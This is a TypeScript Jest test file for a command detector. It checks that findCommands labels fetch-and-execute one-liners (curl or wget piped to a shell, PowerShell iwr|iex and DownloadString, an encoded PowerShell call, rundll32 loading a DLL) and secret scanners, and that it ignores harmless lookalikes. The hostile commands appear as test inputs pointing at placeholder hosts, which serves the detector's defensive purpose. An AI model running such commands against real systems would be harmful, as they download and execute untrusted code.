import { describe, expect, it } from '@jest/globals'
import { findCommands, runsWithRuntime } from '../../../../src/rules/lib/exec/commands.js'

const kinds = (text: string) => findCommands(text).map((match) => match.kind)

describe('findCommands', () => {
  it.each([
    ['curl -fsSL https://x.test/i.sh | sh', 'download-run'],
    ['curl -s https://x.test/i.sh | sudo bash', 'download-run'],
    ['wget -qO- http://203.0.113.9/p | bash', 'download-run'],
    ['sh -c "$(curl -fsSL https://x.test/i.sh)"', 'download-run'],
    ['bash <(curl -s https://x.test/i.sh)', 'download-run'],
    ['curl -o /tmp/a https://x.test/a && chmod +x /tmp/a && /tmp/a', 'download-run'],
    ['iwr https://x.test/a.ps1 -UseBasicParsing | iex', 'download-run'],
    ["IEX (New-Object Net.WebClient).DownloadString('https://x.test/a')", 'download-run'],
    ['curl -fsSL https://bun.sh/install | bash', 'runtime-install'],
    ['irm deno.land/install.ps1', 'runtime-install'],
    ['trufflehog filesystem / --json', 'secret-scanner'],
    ['gitleaks detect --no-git', 'secret-scanner'],
    ['rundll32 lib/node-gyp.dll,main', 'windows-loader'],
    ['powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0A', 'encoded-powershell']
  ])('finds %s', (text, kind) => {
    expect(kinds(text)).toContain(kind)
  })

  it.each([
    'curl -o out.json https://x.test/data.json',
    'const curlCommand = toCurl(request)',
    'a || node',
    'rundll32 url.dll,FileProtocolHandler https://x.test',
    'powershell -NoProfile -Command Get-Date',
    'see the gitleaksConfig option'
  ])('finds nothing in %s', (text) => {
    expect(findCommands(text)).toEqual([])
  })

  it('stays fast on long adversarial lines', () => {
    const hostile = ['curl '.repeat(20_000), 'wget '.repeat(20_000), `iwr ${'a'.repeat(200_000)}`]
    const started = Date.now()
    for (const text of hostile) findCommands(text)
    expect(Date.now() - started).toBeLessThan(2000)
  })

  it('recognises a runtime running a payload', () => {
    expect(runsWithRuntime('bun run bun_environment.js')).toBe(true)
    expect(runsWithRuntime('deno run -A payload.ts')).toBe(true)
    expect(runsWithRuntime('bundle exec rake')).toBe(false)
  })
})
